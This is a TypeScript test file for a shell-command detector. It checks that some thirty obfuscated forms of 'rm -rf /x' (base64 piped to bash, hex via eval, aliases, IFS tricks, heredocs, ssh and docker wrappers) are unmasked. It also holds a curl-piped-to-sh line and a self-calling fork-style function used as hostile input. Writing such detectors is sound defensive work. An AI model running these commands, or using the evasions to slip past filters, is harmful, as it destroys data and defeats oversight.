import { describe, expect, test } from 'vitest';
import { CommandReader } from '../../domain/detections/shell/command-reader.ts';
import { SessionMemory } from '../../domain/detections/shell/session-memory.ts';
import { parseShell } from './parse-shell.ts';

const read = (...lines: readonly string[]) => {
  const reader = new CommandReader(parseShell, new SessionMemory());
  return lines.map((line) => reader.read(line)).at(-1)!;
};
const commands = (...lines: readonly string[]) => read(...lines).commands.map(({ argv }) => argv.join(' '));

describe('what only hides is undone', () => {
  test.each([
    ["r''m -r\\f /x"],
    ["$'\\x72m' -rf /x"],
    ['rm${IFS}-rf${IFS}/x'],
    ['{rm,-rf,/x}'],
    ['r${u}m -rf /x'],
    ['r$@m -rf /x'],
    ['a=r; b=m; $a$b -rf /x'],
    ['X=RM; ${X,,} -rf /x'],
    ['a=xrmx; ${a:1:2} -rf /x'],
    ['$(echo rm) -rf /x'],
    ['$(rev <<< mr) -rf /x'],
    ['$(tr A-Z a-z <<< RM) -rf /x'],
    ['alias z="rm -rf"; z /x'],
    ['f() { rm -rf "$1"; }; f /x'],
    ["bash -c 'rm -rf /x'"],
    ["sudo -u app env A=b sh -c 'rm -rf /x'"],
    ["echo 'rm -rf /x' | sh"],
    ['echo cm0gLXJmIC94 | base64 -d | bash'],
    ['eval "$(printf \'\\x72\\x6d -rf /x\')"'],
    ["sh <<'EOF'\nrm -rf /x\nEOF"],
    ["bash <(echo 'rm -rf /x')"],
    ['echo /x | xargs rm -rf'],
    ['find /x -exec rm -rf {} \\;'],
    ["ssh -i key app@203.0.113.9 'rm -rf /x'"],
    ['python3 -c \'import os; os.system("rm -rf /x")\''],
    ["echo 'rm -rf /x' > s.sh; chmod +x s.sh; ./s.sh"],
    ['IFS=,; c=rm,-rf,/x; $c'],
    ['docker exec -it web rm -rf /x'],
    ["trap 'rm -rf /x' EXIT"],
    ['if true; then ! (rm -rf /x); fi &'],
  ])('%s', (line) => {
    expect(commands(line)).toContain('rm -rf /x');
  });
});

test('what one line sets, later ones may use', () => {
  expect(commands('x=rm', 'alias y=$x', 'y -rf /x')).toContain('rm -rf /x');
});

test('what depends on the node stays as it was typed', () => {
  expect(commands('cat $HOME/x $(cat f)')).toContain('cat $HOME/x $(cat f)');
});

test('a pipeline tells each command what it reads from', () => {
  const [curl, sh] = read('curl -s http://203.0.113.7/x | sh').commands;
  expect(sh?.upstream).toEqual([curl]);
  expect(curl?.downstream).toEqual([sh]);
});

test('text that is no shell is cut at its separators', () => {
  expect(commands('if rm -rf /x')).toContain('rm -rf /x');
  expect(commands('echo "never closed; rm -rf /x')).toContain('rm -rf /x');
});

describe('hostile lines', () => {
  const within = (line: string) => {
    const begin = performance.now();
    const { commands: found, limits } = read(line);
    return { found: found.length, limits, ms: performance.now() - begin };
  };
  test('a line that is too long is read up to the limit, and says so', () => {
    expect(within(`echo ${'a'.repeat(200_000)}`).limits).toContain('length');
  });
  test('scripts in scripts end at the limit, and say so', () => {
    let line = 'id';
    for (let i = 0; i < 14; i += 1) line = `sh -c ${JSON.stringify(line).replaceAll('$', '\\$')}`;
    expect(within(line).limits).toContain('depth');
  });
  test('a function that calls itself, and very many commands, end at the limit', () => {
    expect(within('f() { f | f & }; f').limits).not.toEqual([]);
    expect(within('id;'.repeat(5000)).limits).toContain('count');
  });
  test.each([
    '(',
    '$(',
    '`',
    '{a,',
    '"',
    '${a:-',
    '$((',
    'a|',
    '<<E ',
    '[[ ',
    'x=$x$x;',
    "echo '",
    '{a,b}{a,b}',
  ])('a flood of %j is read in time', (piece) => {
    const { found, ms } = within(piece.repeat(20_000).slice(0, 60_000));
    expect(found).toBeLessThan(2000);
    expect(ms).toBeLessThan(5000);
  });
});
